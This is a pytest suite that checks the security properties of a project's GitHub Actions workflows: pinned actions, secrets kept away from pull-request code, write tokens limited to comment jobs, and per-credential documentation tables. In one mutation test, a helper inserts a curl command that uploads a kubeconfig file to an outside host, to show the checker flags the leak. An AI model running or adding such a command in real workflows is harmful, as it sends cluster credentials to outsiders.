"""The GitHub workflows keep secrets away from pull-request code (issue 14 item 2, issue 28 findings 1 and 11),
asserted on the parsed YAML.

actionlint (tests/prsummary/test_prsummary_workflows.py) checks that they are valid; these tests check the security
properties, each over every workflow and job it concerns, so a new job or step is held to them too.

The model (``code_origins`` / ``secrets_seen``): a job runs the pull request's code when its workflow is started by
an event whose workflow file the pull request controls (``pull_request``: GitHub reads a same-repository pull
request's workflow from its merge commit), or when a step runs after a checkout of the pull request's ref into the
workspace (the default ref of ``actions/checkout`` under ``pull_request``; ``head.sha``/``head_ref``/``refs/pull``
anywhere). A checkout of the pull request into a sub-directory is data only when it is sparse to DATA_PATHS and
every step until it is removed is a plain shell script of file commands. A job sees a secret when ``secrets.X``
appears anywhere in it, or it inherits secrets; a job in a GitHub environment sees that environment's secrets.
"""
from __future__ import annotations

import ast
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from kueue_cohorts.components.settings import key_text, selecting_keys

ROOT = Path(__file__).resolve().parents[2]
WORKFLOW_DIR = ROOT / ".github" / "workflows"
WORKFLOWS = sorted(WORKFLOW_DIR.glob("*.yml"))
SECRET = re.compile(r"\$\{\{[^}]*\bsecrets\.")
TOKEN = re.compile(r"\$\{\{[^}]*\b(secrets\.GITHUB_TOKEN|github\.token)\b")
SHA_PIN = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
MAIN_ONLY = "github.ref == 'refs/heads/main'"


def load(path: Path) -> dict[str, Any]:
    """The workflow as data; YAML 1.1 reads the key `on` as True, so it is put back under "on"."""
    doc = yaml.safe_load(path.read_text())
    doc["on"] = doc.pop(True, doc.get("on"))
    return doc


def text(value: Any) -> str:
    """Every string inside ``value`` (keys and values), for searching expressions."""
    return yaml.safe_dump(value, sort_keys=True, width=10_000)


def jobs(name: str) -> dict[str, dict]:
    return load(WORKFLOW_DIR / name)["jobs"]


def all_steps():
    for path in WORKFLOWS:
        for job_name, job in load(path)["jobs"].items():
            for step in job.get("steps", []):
                yield path.name, job_name, step


def kubeconfig_stacks() -> list[str]:
    """The stacks whose stack file targets a real cluster (cluster mode kubeconfig)."""
    found = []
    for path in sorted((ROOT / "stacks").glob("Pulumi.*.yaml")):
        config = yaml.safe_load(path.read_text()).get("config") or {}
        if (config.get("kueue-cohorts:cluster") or {}).get("mode") == "kubeconfig":
            found.append(path.name[len("Pulumi."):-len(".yaml")])
    return found


def test_there_are_workflows_to_check():
    assert {p.name for p in WORKFLOWS} >= {"preview.yml", "deploy.yml"}
    assert kubeconfig_stacks() == ["prod", "staging"]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_third_party_action_is_pinned_by_commit_sha_with_its_tag_named(path):
    lines = path.read_text().splitlines()
    uses = [(i, line) for i, line in enumerate(lines) if re.match(r"^\s*(- )?uses:", line)]
    assert uses
    for i, line in uses:
        ref = line.split("uses:", 1)[1].split("#", 1)[0].strip()
        if ref.startswith("./"):
            continue
        assert SHA_PIN.match(ref), f"{path.name}:{i + 1}: {ref} is not pinned by a 40-hex commit SHA"
        assert re.search(r"#\s*v\d+(\.\d+)*\s*$", line), f"{path.name}:{i + 1}: name the tag after the SHA"


def test_checkout_never_persists_credentials():
    checkouts = [(w, j, s) for w, j, s in all_steps() if str(s.get("uses", "")).startswith("actions/checkout@")]
    assert len(checkouts) >= 4
    for workflow, job, step in checkouts:
        assert (step.get("with") or {}).get("persist-credentials") is False, f"{workflow} {job}"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_secrets_are_given_only_to_steps(path):
    doc = load(path)
    assert not SECRET.search(text(doc.get("env") or {})), "workflow-level env holds a secret"
    for name, job in doc["jobs"].items():
        assert not SECRET.search(text(job.get("env") or {})), f"job {name}: job-level env holds a secret"
        assert not SECRET.search(text(job.get("defaults") or {})), name
        for step in job.get("steps", []):
            assert not SECRET.search(str(step.get("run", ""))), f"{name}: a secret expanded into a script"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_only_jobs_in_a_github_environment_read_secrets_and_top_permissions_are_read_only(path):
    doc = load(path)
    assert doc["permissions"] == {"contents": "read"}
    for name, job in doc["jobs"].items():
        if SECRET.search(text(job)):
            assert job.get("environment"), f"job {name} reads secrets outside a GitHub environment"


def test_summary_job_holds_no_secret_and_no_write_token():
    job = jobs("preview.yml")["summary"]
    assert not SECRET.search(text(job)) and not TOKEN.search(text(job))
    assert job["permissions"] == {"contents": "read"}
    assert "environment" not in job
    assert any("make pr-summary" in str(s.get("run", "")) for s in job["steps"])


def test_live_preview_uses_its_own_read_only_environment_per_real_stack():
    doc = load(WORKFLOW_DIR / "live-preview.yml")
    job = doc["jobs"]["live-preview"]
    assert sorted(job["strategy"]["matrix"]["stack"]) == kubeconfig_stacks()
    assert job["environment"] == "preview-${{ matrix.stack }}"
    deploy_envs = {j["environment"] for j in jobs("deploy.yml").values()}
    assert not any(env.startswith("preview-") for env in deploy_envs)
    assert job["permissions"] == {"contents": "read"}
    assert "head.repo.full_name == github.repository" in job["if"]  # forks get no secrets
    secrets = set(re.findall(r"secrets\.([A-Z_]+)", text(job)))
    assert secrets == {"PREVIEW_KUBECONFIG", "PULUMI_BACKEND_URL", "PULUMI_CONFIG_PASSPHRASE"}
    assert "secrets.KUBECONFIG" not in text(doc)  # the deploy kubeconfig is never in the preview workflow
    runs = [str(s.get("run", "")) for s in job["steps"]]
    # the command a person runs
    assert any('python -m kueue_cohorts.deploy preview --stack "$STACK"' in r for r in runs)


@pytest.mark.parametrize("workflow", ["preview.yml", "live-preview.yml"])
def test_comment_job_runs_no_pull_request_code(workflow):
    job = jobs(workflow)["comment"]
    assert job["permissions"] == {"pull-requests": "write"}
    assert not SECRET.search(text(job))
    for step in job["steps"]:
        assert "run" not in step, "the job that holds the write token runs no script"
        assert not str(step.get("uses", "")).startswith("actions/checkout@"), "no checkout of the PR's code"


def test_only_the_comment_jobs_may_write():
    for path in WORKFLOWS:
        for name, job in load(path)["jobs"].items():
            writes = {k for k, v in (job.get("permissions") or {}).items() if v == "write"}
            assert not writes or (path.name, name) in {("preview.yml", "comment"), ("live-preview.yml", "comment")}, \
                f"{path.name} {name}: {writes}"
            if writes:
                assert writes == {"pull-requests"} and not SECRET.search(text(job)) and "environment" not in job
                for step in job["steps"]:
                    assert "run" not in step and not str(step.get("uses", "")).startswith("actions/checkout@")


def test_deploy_runs_only_for_main_including_dispatch():
    """Every deploy job is main-only; it deploys through ``python -m kueue_cohorts.deploy up`` (the command a person
    runs, with
    its safeguards), never through ``pulumi/actions`` or a bare ``pulumi up``; its path filters cover every file
    that changes what is deployed (finding 11)."""
    doc = load(WORKFLOW_DIR / "deploy.yml")
    assert doc["on"]["push"]["branches"] == ["main"]
    assert "workflow_dispatch" in doc["on"]
    for name, job in doc["jobs"].items():
        assert job.get("if") == MAIN_ONLY, f"job {name} must run only for refs/heads/main"
        assert job["environment"] == name
    header = (WORKFLOW_DIR / "deploy.yml").read_text().lower()
    assert "deployment branches" in header and "selected branches: main" in header
    for name, job in doc["jobs"].items():
        assert not [s for s in job["steps"] if str(s.get("uses", "")).startswith("pulumi/actions@")], name
        runs = [str(s.get("run", "")) for s in job["steps"]]
        assert any(f"python -m kueue_cohorts.deploy up --stack {name}" in r for r in runs), name
        assert not any(re.search(r"(^|[;&|\s])pulumi\s+(up|destroy|refresh)", r) for r in runs), name


DEPLOYED_INPUTS = ["stacks/Pulumi.prod.yaml", "kueue_cohorts/components/settings/root.py",
                   "kueue_cohorts/policy/rules/book/__init__.py", "__main__.py", "kueue_cohorts/deploy/engine.py",
                   "kueue_cohorts/toolchain/versions.toml", "kueue_cohorts/toolchain/archives.py", "Makefile",
                   "Pulumi.yaml",
                   "requirements.txt", "requirements-dev.txt", "requirements-trainer.txt", "requirements.lock",
                   "requirements-trainer.lock"]


def _matches(paths: list[str], file: str) -> bool:
    """GitHub's path filter (fnmatch with ``**`` across directories, ``*`` within one), enough for these globs."""
    for glob in paths:
        regex = re.escape(glob).replace(r"\*\*", ".*").replace(r"\*", "[^/]*")
        if re.fullmatch(regex, file):
            return True
    return False


@pytest.mark.parametrize("file", DEPLOYED_INPUTS)
def test_path_filters_cover_every_input_of_the_program(file):
    """A change to any input of the deployed program (pins, toolchain, project file) is previewed and deployed."""
    assert _matches(load(WORKFLOW_DIR / "preview.yml")["on"]["pull_request"]["paths"], file)
    assert _matches(load(WORKFLOW_DIR / "deploy.yml")["on"]["push"]["paths"], file)


TEST_COMMANDS = ("make lint test-unit", "make test-unit", "make test", "pytest")


def test_every_pull_request_runs_the_tests_without_secrets():
    """Some workflow started by every pull request (a ``pull_request`` trigger without a paths, paths-ignore or
    branches filter) runs the lint and the unit and policy tests; every job that runs tests on a pull request holds
    no secret, no GitHub environment and no write token (finding 11)."""
    everywhere = []
    for path in WORKFLOWS:
        doc = load(path)
        if "pull_request" not in events(doc):
            continue
        trigger = doc["on"]["pull_request"] if isinstance(doc["on"], dict) else None
        unfiltered = not (trigger or {}).keys() & {"paths", "paths-ignore", "branches", "branches-ignore"}
        for name, job in doc["jobs"].items():
            runs = " ".join(str(s.get("run", "")) for s in job.get("steps", []))
            if not any(command in runs for command in TEST_COMMANDS):
                continue
            assert not secrets_seen(job) and not TOKEN.search(text(job)), f"{path.name} {name}"
            assert job.get("permissions") == {"contents": "read"}, f"{path.name} {name}"
            if unfiltered and "make lint test-unit" in runs:
                everywhere.append((path.name, name))
    assert everywhere, "no workflow runs `make lint test-unit` on every pull request"


def test_every_secret_a_step_gets_is_in_that_steps_own_env_or_inputs():
    """A step that reads a secret gets it through its own ``env`` or ``with``; a step that builds the project
    (``make``: venv, toolchain) gets none."""
    for workflow, job, step in all_steps():
        if "make " in str(step.get("run", "")):
            assert not SECRET.search(text(step)), f"{workflow} {job}: {step.get('name')}"
        rest = {k: v for k, v in step.items() if k not in ("env", "with")}
        assert not SECRET.search(text(rest)), f"{workflow} {job}: {step.get('name')}"


# --- The model: where each job's code comes from, which secrets it sees (finding 1) -----------------------------

#: Events whose workflow file (and default checkout) the pull request controls.
PR_CONTROLLED_EVENTS = {"pull_request", "pull_request_review", "pull_request_review_comment", "merge_group"}
#: Events whose workflow comes from the base / default branch; a credentialed job may run under these only.
BASE_EVENTS = {"pull_request_target", "push", "workflow_dispatch", "workflow_run", "schedule"}
#: What a credentialed job may read of a pull request: data files, never code.
DATA_PATHS = {"stacks", "kueue_cohorts/policy/config"}
PR_REF = re.compile(r"pull_request\.head\.|github\.head_ref|refs/pull/|\.merge_commit_sha")
#: Commands a script may run while a pull request's data checkout is still in the workspace.
FILE_COMMANDS = {"for", "do", "done", "if", "then", "else", "fi", "cp", "echo", "exit", "rm", "test", "[", "]",
                 "true", "false", "mkdir", ";"}

CREDENTIALS = {
    "KUBECONFIG": "deploy kubeconfig",
    "PREVIEW_KUBECONFIG": "preview kubeconfig",
    "PULUMI_CONFIG_PASSPHRASE": "passphrase",
    "PULUMI_BACKEND_URL": "backend URL",
}


def events(doc: dict[str, Any]) -> set[str]:
    on = doc["on"]
    if isinstance(on, str):
        return {on}
    return set(on if isinstance(on, list) else on.keys())


def is_checkout(step: dict[str, Any]) -> bool:
    return str(step.get("uses", "")).startswith("actions/checkout@")


def checkout_is_pr(doc: dict[str, Any], step: dict[str, Any]) -> bool:
    """Whether this checkout fetches the pull request's commit: an explicit PR ref, or the default ref under an
    event whose default checkout is the pull request (pull_request*: refs/pull/N/merge)."""
    ref = str((step.get("with") or {}).get("ref", ""))
    if ref:
        return bool(PR_REF.search(ref))
    return bool(events(doc) & PR_CONTROLLED_EVENTS)


def script_commands(script: str) -> set[str]:
    """The first word of every command of a shell script (split on newlines, ;, &&, ||, |, then/do/else)."""
    words = set()
    for part in re.split(r"\n|;|&&|\|\||\||\bthen\b|\bdo\b|\belse\b", script):
        tokens = part.strip().split()
        if tokens:
            words.add(tokens[0])
    return words


def pr_code_reasons(doc: dict[str, Any], job: dict[str, Any]) -> list[str]:
    """Why ``job`` runs code that the pull request controls (empty: it runs none)."""
    reasons = []
    if events(doc) & PR_CONTROLLED_EVENTS:
        reasons.append(f"started by {sorted(events(doc) & PR_CONTROLLED_EVENTS)}: the workflow file is the PR's")
    pr_dirs: set[str] = set()
    for step in job.get("steps", []):
        name = step.get("name") or step.get("uses") or step.get("run", "")[:40]
        if is_checkout(step):
            w = step.get("with") or {}
            path = str(w.get("path", ".")).strip("/") or "."
            if checkout_is_pr(doc, step):
                sparse = {p.strip().strip("/") for p in str(w.get("sparse-checkout", "")).split() if p.strip()}
                if path in (".", "") or not sparse or not sparse <= DATA_PATHS:
                    reasons.append(f"{name}: checks out the PR's code at {path!r} (sparse {sorted(sparse)})")
                else:
                    pr_dirs.add(path)
            continue
        if not pr_dirs:
            continue
        # A pull request's data checkout is in the workspace: only file commands until it is removed.
        if "uses" in step:
            reasons.append(f"{name}: runs an action while the PR's files {sorted(pr_dirs)} are in the workspace")
            continue
        script = str(step.get("run", ""))
        wd = str(step.get("working-directory", ".")).strip("/")
        if any(wd == d or wd.startswith(d + "/") for d in pr_dirs):
            reasons.append(f"{name}: runs in the PR's directory {wd}")
        extra = script_commands(script) - FILE_COMMANDS
        if extra:
            reasons.append(f"{name}: runs {sorted(extra)} while the PR's files are in the workspace")
        for d in list(pr_dirs):
            if re.search(rf"rm -rf {re.escape(d)}\s*$", script.strip()):
                pr_dirs.discard(d)
    return reasons


def secrets_seen(job: dict[str, Any]) -> set[str]:
    """The secrets ``job`` can read: every ``secrets.X`` in it, ``*`` for ``secrets: inherit`` or an environment
    (whose secrets are whatever its settings hold)."""
    seen = set(re.findall(r"secrets\.([A-Za-z_][A-Za-z0-9_]*)", text(job))) - {"GITHUB_TOKEN"}
    if job.get("secrets") == "inherit":
        seen.add("*")
    if job.get("environment"):
        seen.add("*environment")
    return seen


def violations(doc: dict[str, Any]) -> list[str]:
    """Every job of ``doc`` that sees a secret while running pull-request code, or that saves a cache a
    credentialed job could restore while running under pull_request_target."""
    found = []
    for name, job in doc["jobs"].items():
        seen = secrets_seen(job)
        reasons = pr_code_reasons(doc, job)
        if seen and reasons:
            found.append(f"job {name} sees {sorted(seen)} and runs pull-request code: {reasons}")
        if seen and "pull_request_target" in events(doc):
            for step in job.get("steps", []):
                if re.match(r"actions/cache@", str(step.get("uses", ""))):
                    found.append(f"job {name}: actions/cache under pull_request_target (use actions/cache/restore)")
    return found


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_no_job_sees_a_secret_while_running_pull_request_code(path):
    assert violations(load(path)) == []


def test_every_credentialed_job_runs_under_a_base_branch_event_only():
    for path in WORKFLOWS:
        doc = load(path)
        for name, job in doc["jobs"].items():
            if secrets_seen(job):
                assert events(doc) <= BASE_EVENTS, f"{path.name} {name}: {events(doc)}"


LIVE = load(WORKFLOW_DIR / "live-preview.yml")


def _mutated(change) -> dict[str, Any]:
    doc = yaml.safe_load(yaml.safe_dump(LIVE))
    change(doc, doc["jobs"]["live-preview"])
    return doc


def _set_on(doc, job, event):
    doc["on"] = {event: {}}


def _checkout_head_at_root(doc, job):
    job["steps"][0]["with"]["ref"] = "${{ github.event.pull_request.head.sha }}"


def _checkout_default_ref_under_pull_request(doc, job):
    doc["on"] = {"pull_request": {}}
    del job["steps"][0]["with"]["ref"]


def _sparse_code(doc, job):
    job["steps"][1]["with"]["sparse-checkout"] = "stacks\npolicy\n"


def _no_sparse(doc, job):
    del job["steps"][1]["with"]["sparse-checkout"]


def _make_before_removal(doc, job):
    job["steps"][2]["run"] = job["steps"][2]["run"].replace("rm -rf pr", "make venv\nrm -rf pr")


def _never_removed(doc, job):
    job["steps"][2]["run"] = job["steps"][2]["run"].replace("rm -rf pr", "")


def _working_directory(doc, job):
    job["steps"].insert(2, {"run": "rm -f x", "working-directory": "pr/stacks"})


def _cache_save(doc, job):
    for step in job["steps"]:
        if str(step.get("uses", "")).startswith("actions/cache/restore@"):
            step["uses"] = step["uses"].replace("actions/cache/restore@", "actions/cache@")


def _under_pull_request(doc, job):
    _set_on(doc, job, "pull_request")


def _head_ref_in_script_checkout(doc, job):
    job["steps"][0]["with"]["ref"] = "refs/pull/${{ github.event.number }}/merge"


BREAKS = [_checkout_head_at_root, _checkout_default_ref_under_pull_request, _sparse_code, _no_sparse,
          _make_before_removal, _never_removed, _working_directory, _cache_save, _head_ref_in_script_checkout,
          _under_pull_request]


@pytest.mark.parametrize("change", BREAKS, ids=lambda f: f.__name__)
def test_the_model_catches_pull_request_code_next_to_credentials(change):
    """Each way a credentialed job could come to run the pull request's code is caught by ``violations`` (the
    workflow of today's main, `pull_request` with the environment, among them)."""
    assert violations(LIVE) == []
    assert violations(_mutated(change)), change


def test_mains_old_live_preview_would_be_caught():
    """The live-preview job as it was (pull_request event, default checkout, `make venv`, the environment)."""
    old = {"on": {"pull_request": {"paths": ["stacks/**"]}}, "jobs": {"live-preview": {
        "environment": "preview-${{ matrix.stack }}",
        "steps": [{"uses": "actions/checkout@" + "0" * 40, "with": {"persist-credentials": False}},
                  {"name": "venv", "run": "make venv"},
                  {"uses": "pulumi/actions@" + "0" * 40,
                   "env": {"PULUMI_CONFIG_PASSPHRASE": "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"}}]}}}
    assert violations(old)


#: A step's shell tools that run no project code (besides FILE_COMMANDS): writing, tailing and removing files.
SHELL_TOOLS = {"umask", "printf", "tail", "tee", "set", "{", "}", "cat"}
WRITES_FILE = re.compile(r'>\s*"?(\$RUNNER_TEMP/[\w./-]+)')
MODULE_RUN = re.compile(r"\bpython3? -m ([\w.]+) (\w+)")


def code_reaching(job: dict[str, Any], secret: str) -> set[str]:
    """The code of ``job`` that can read ``secret``: every step that gets it in its own env or inputs and, once such
    a step wrote it into a file under $RUNNER_TEMP, every later step until one removes that file. Each such step
    counts as the ``python -m <module> <command>`` its script runs, the action it uses (``owner/name``), and any
    other command of its script but the shell's file tools (SHELL_TOOLS, FILE_COMMANDS)."""
    found: set[str] = set()
    files: set[str] = set()
    for step in job.get("steps", []):
        direct = bool(re.search(rf"\bsecrets\.{secret}\b", text({k: step.get(k) for k in ("env", "with")})))
        script = str(step.get("run", ""))
        if direct or files:
            if "uses" in step:
                found.add(str(step["uses"]).split("@", 1)[0])
            modules = MODULE_RUN.findall(script)
            found |= {f"python -m {module} {command}" for module, command in modules}
            others = script_commands(script) - FILE_COMMANDS - SHELL_TOOLS
            found |= {c for c in others if not (modules and re.search(r"python3?$", c))}
        if direct:
            files |= set(WRITES_FILE.findall(script))
        files = {f for f in files if not re.search(rf'rm -f "?{re.escape(f)}', script)}
    return found


def origin(doc: dict[str, Any], job: dict[str, Any]) -> str:
    """Where a credentialed job's code comes from: ``main`` (a main-only job of push / dispatch) or ``base branch``
    (pull_request_target: the base branch's workflow and checkout)."""
    if job.get("if") == MAIN_ONLY and events(doc) <= {"push", "workflow_dispatch"}:
        return "main"
    assert events(doc) == {"pull_request_target"}, events(doc)
    return "base branch"


def security_page_credentials_table() -> dict[str, tuple[set[tuple[str, str]], set[str], str]]:
    """docs/security.md's "Who can reach each credential" table: credential -> ({(workflow, job)} of the column
    "jobs that can read it", {code} of "code that can read it", the text of "where that code comes from")."""
    page = (ROOT / "docs" / "security.md").read_text()
    section = page.split("## Who can reach each credential", 1)[1].split("\n#", 1)[0]
    table: dict[str, tuple[set[tuple[str, str]], set[str], str]] = {}
    for line in section.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) < 5 or not cells[0].startswith("`") or set(cells[0]) <= {"-"}:
            continue
        secret = cells[0].strip("`").split("`")[0]
        table[secret] = (set(re.findall(r"`([\w.-]+\.yml)` `([\w-]+)`", cells[2])),
                         set(re.findall(r"`([^`]+)`", cells[3])), cells[4])
    return table


def test_the_security_page_states_per_credential_which_jobs_and_code_reach_it():
    """Per credential (deploy kubeconfig, preview kubeconfig, passphrase, backend URL): the jobs that can read it,
    the code in them that can (the steps that get it, and those that run while it sits in a file), and where that
    code comes from are exactly what docs/security.md says; none of those jobs runs pull-request code."""
    reach: dict[str, set[tuple[str, str]]] = {k: set() for k in CREDENTIALS}
    code: dict[str, set[str]] = {k: set() for k in CREDENTIALS}
    origins: dict[str, set[str]] = {k: set() for k in CREDENTIALS}
    for path in WORKFLOWS:
        doc = load(path)
        for name, job in doc["jobs"].items():
            for secret in secrets_seen(job) & set(CREDENTIALS):
                reach[secret].add((path.name, name))
                code[secret] |= code_reaching(job, secret)
                origins[secret].add(origin(doc, job))
            assert not pr_code_reasons(doc, job) or not secrets_seen(job)
    page = security_page_credentials_table()
    assert set(page) == set(CREDENTIALS)
    for secret in CREDENTIALS:
        jobs_, code_, where = page[secret]
        assert jobs_ == reach[secret], secret
        assert code_ == code[secret], secret
        assert {o for o in ("main", "base branch") if o in where} == origins[secret], (secret, where)
    assert reach["KUBECONFIG"] == {("deploy.yml", "staging"), ("deploy.yml", "prod")}
    assert reach["PREVIEW_KUBECONFIG"] == {("live-preview.yml", "live-preview")}
    assert code["KUBECONFIG"] == {"python -m kueue_cohorts.deploy up"}
    assert code["PREVIEW_KUBECONFIG"] == {"python -m kueue_cohorts.deploy preview"}


def _leak_to_a_later_step(doc, job):
    job["steps"].insert(-2, {"name": "debug", "run": "curl -F f=@$RUNNER_TEMP/kubeconfig https://example.com"})


def _upload_before_forgetting(doc, job):
    job["steps"].insert(-2, {"uses": "actions/upload-artifact@" + "0" * 40, "with": {"path": "${{ runner.temp }}"}})


def _secret_to_make(doc, job):
    passphrase = "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}"
    job["steps"].append({"run": "make up", "env": {"PULUMI_CONFIG_PASSPHRASE": passphrase}})


@pytest.mark.parametrize("change,secret,extra", [
    (_leak_to_a_later_step, "KUBECONFIG", "curl"),
    (_upload_before_forgetting, "KUBECONFIG", "actions/upload-artifact"),
    (_secret_to_make, "PULUMI_CONFIG_PASSPHRASE", "make"),
], ids=lambda v: getattr(v, "__name__", v))
def test_the_model_sees_every_code_that_can_read_a_credential(change, secret, extra):
    """A step that could read the credential (directly, or from the file a step wrote it to) counts as code that
    reaches it, and so would have to be on the security page."""
    doc = load(WORKFLOW_DIR / "deploy.yml")
    job = doc["jobs"]["staging"]
    assert extra not in code_reaching(job, secret)
    change(doc, job)
    assert extra in code_reaching(job, secret)


# --- Path filters: every file the deployed program and the summary run (finding 11) --------------------------------

#: The entry points each workflow runs: the program (``__main__.py``) through ``python -m kueue_cohorts.deploy`` with
# the policy
#: pack, and for the pull-request summary ``kueue-cohorts pr-summary`` (``make pr-summary``).
ENTRY_POINTS = {
    "deploy.yml": ("__main__.py", "kueue_cohorts/deploy/__main__.py", "kueue_cohorts/policy/__main__.py"),
    "preview.yml": ("__main__.py", "kueue_cohorts/deploy/__main__.py", "kueue_cohorts/policy/__main__.py",
                    "kueue_cohorts/__main__.py"),
}


def _module_file(module: str) -> Path | None:
    """The repository file of a dotted module name (a package's ``__init__.py``), or None when it is not ours."""
    base = ROOT.joinpath(*module.split("."))
    for candidate in (base.with_suffix(".py"), base / "__init__.py"):
        if candidate.is_file():
            return candidate
    return None


def import_closure(entries: tuple[str, ...]) -> set[str]:
    """Every repository file the ``entries`` import, directly or not (``ast``; every import, also inside a
    function), with the ``__init__.py`` of each package on the way; as POSIX paths relative to the repository."""
    seen: set[Path] = set()
    todo = [ROOT / e for e in entries]
    while todo:
        path = todo.pop()
        if path in seen:
            continue
        seen.add(path)
        rel = path.relative_to(ROOT)
        package = list(rel.parent.parts)
        for parent in range(1, len(package) + 1):
            init = ROOT.joinpath(*package[:parent], "__init__.py")
            if init.is_file():
                todo.append(init)
        for node in ast.walk(ast.parse(path.read_text())):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                base = ".".join(package[: len(package) - node.level + 1] + [node.module or ""]) if node.level \
                    else (node.module or "")
                base = base.strip(".")
                names = [base] + [f"{base}.{alias.name}" for alias in node.names]
            for name in names:
                found = _module_file(name) if name else None
                if found is not None:
                    todo.append(found)
    return {p.relative_to(ROOT).as_posix() for p in seen}


#: Files besides Python modules that decide what is deployed or previewed.
PROJECT_FILES = ("Pulumi.yaml", "Makefile", "pyproject.toml", "requirements.txt", "requirements-dev.txt",
                 "requirements.lock", "requirements-trainer.txt", "requirements-trainer.lock",
                 "requirements-recipe-llamafactory.txt", "kueue_cohorts/toolchain/versions.toml",
                 "kueue_cohorts/policy/PulumiPolicy.yaml", "kueue_cohorts/policy/requirements.txt",
                 "stacks/Pulumi.prod.yaml", "kueue_cohorts/policy/config/prod.json")


@pytest.mark.parametrize("workflow,trigger", [("deploy.yml", "push"), ("preview.yml", "pull_request")])
def test_path_filters_cover_every_file_the_workflow_runs(workflow, trigger):
    """A change to any file the workflow's code imports (the program, deploy, the pack, their tools) or reads as the
    project (pins, locks, toolchain, Pulumi.yaml) starts it: none is deployed or merged without its preview."""
    paths = load(WORKFLOW_DIR / workflow)["on"][trigger]["paths"]
    files = sorted(import_closure(ENTRY_POINTS[workflow]) | {f for f in PROJECT_FILES if (ROOT / f).is_file()})
    assert len(files) > 20 and "kueue_cohorts/toolchain/versions.toml" in files
    missed = [f for f in files if not _matches(paths, f)]
    assert missed == [], f"{workflow} {trigger}.paths miss {missed}"


def test_the_import_closure_follows_imports_of_every_form():
    closure = import_closure(("kueue_cohorts/deploy/__main__.py",))
    assert {"kueue_cohorts/deploy/__main__.py", "kueue_cohorts/deploy/__init__.py",
            "kueue_cohorts/deploy/queue_holders.py", "kueue_cohorts/components/model/kueue.py",
            "kueue_cohorts/components/__init__.py", "kueue_cohorts/toolchain/__init__.py"} <= closure
    assert "tests/unit/test_workflow_security.py" not in closure


# --- What a pull request controls and can select in each job (issue 38, class 1) -------------------------------------

COPY_FROM_PR = re.compile(r'cp -- "(?P<dir>[\w.-]+)/(?P<src>[^"]+)" "(?P<dst>[^"]+)"')
PREVIEW_PR = re.compile(r'python3? -m kueue_cohorts.deploy preview\b[^\n]*--pull-request "(?P<file>[^"]+)"')


def controls_tables() -> dict[str, dict[tuple[str, str], list[str]]]:
    """The "files of the PR it keeps" tables of docs/security.md and docs/previews.md: page -> {(workflow, job):
    [runs the PR's code, files it keeps, what its data can select]}."""
    found: dict[str, dict[tuple[str, str], list[str]]] = {}
    for page in ("security.md", "previews.md"):
        text = (ROOT / "docs" / page).read_text()
        start = text.index("| job | runs the PR's code | files of the PR it keeps | what the PR's data can select |")
        rows: dict[tuple[str, str], list[str]] = {}
        for line in text[start:].splitlines()[2:]:
            if not line.startswith("|"):
                break
            cells = [c.strip() for c in line.strip().strip("|").split("|")]
            where = re.fullmatch(r"`([\w.-]+\.yml)` `([\w-]+)`", cells[0])
            assert where, line
            rows[(where.group(1), where.group(2))] = cells[1:]
        found[page] = rows
    return found


def kept_files(doc: dict[str, Any], job: dict[str, Any]) -> set[str]:
    """The files a job copies out of its pull-request data checkout (`cp -- "<dir>/<file>" ...`, `$STACK` read as
    `<stack>`), as repository paths."""
    dirs = {str((s.get("with") or {}).get("path")) for s in job.get("steps", [])
            if is_checkout(s) and checkout_is_pr(doc, s) and (s.get("with") or {}).get("path")}
    files = set()
    for step in job.get("steps", []):
        for match in COPY_FROM_PR.finditer(str(step.get("run", ""))):
            if match.group("dir") in dirs:
                files.add(match.group("src").replace("$STACK", "<stack>"))
    return files


def test_the_pages_say_per_job_what_the_pull_request_controls_and_can_select():
    """docs/security.md and docs/previews.md: one row per job of every workflow; "runs the PR's code" is the model's
    answer; the files kept are those the job copies from its data checkout (all for a job that runs the PR's code);
    for a job that previews the PR's data, the keys it names are exactly the schema's selecting keys, and its preview
    runs with --pull-request on the file it kept."""
    selecting = {key_text(path) for path in selecting_keys()}
    for page, rows in controls_tables().items():
        expected = {(path.name, name) for path in WORKFLOWS for name in load(path)["jobs"]}
        assert set(rows) == expected, page
        for (workflow, name), (runs, files, selects) in rows.items():
            doc = load(WORKFLOW_DIR / workflow)
            job = doc["jobs"][name]
            runs_pr_code = bool(pr_code_reasons(doc, job))
            assert runs == ("yes" if runs_pr_code else "no"), (page, workflow, name)
            kept = kept_files(doc, job)
            if runs_pr_code:
                assert files.startswith("all"), (page, workflow, name)
                continue
            assert set(re.findall(r"`([^`]+)`", files)) == kept, (page, workflow, name)
            if not kept:
                assert files.startswith("none") and selects.startswith("nothing"), (page, workflow, name)
                continue
            scripts = "\n".join(str(s.get("run", "")) for s in job["steps"])
            previewed = {m.group("file") for m in PREVIEW_PR.finditer(scripts.replace("\\\n", " "))}
            assert previewed, f"{workflow} {name} keeps {kept} but previews without --pull-request"
            named = {k for k in re.findall(r"`([^`]+)`", selects) if re.match(r"kueue-cohorts:\w", k)}
            assert named == selecting, (page, workflow, name)
            assert "Selecting" in selects and "exec" in selects


def test_the_table_model_catches_a_job_that_keeps_more_of_the_pull_request():
    """Copying the PR's pack config again (a JSON file there is a valid kubeconfig), or previewing without
    --pull-request, makes the table false."""
    doc = load(WORKFLOW_DIR / "live-preview.yml")
    job = doc["jobs"]["live-preview"]
    assert kept_files(doc, job) == {"stacks/Pulumi.<stack>.yaml"}
    take = next(s for s in job["steps"] if "rm -rf pr" in str(s.get("run", "")))
    take["run"] = take["run"].replace("rm -rf pr", 'cp -- "pr/policy/config/$STACK.json" "policy/config/$STACK.json"\n'
                                                   "rm -rf pr")
    assert kept_files(doc, job) == {"stacks/Pulumi.<stack>.yaml", "policy/config/<stack>.json"}
    preview = next(s for s in job["steps"] if s.get("id") == "preview")
    assert PREVIEW_PR.search(preview["run"].replace("\\\n", " "))
    assert not PREVIEW_PR.search(preview["run"].replace("--pull-request", "--diff").replace("\\\n", " "))
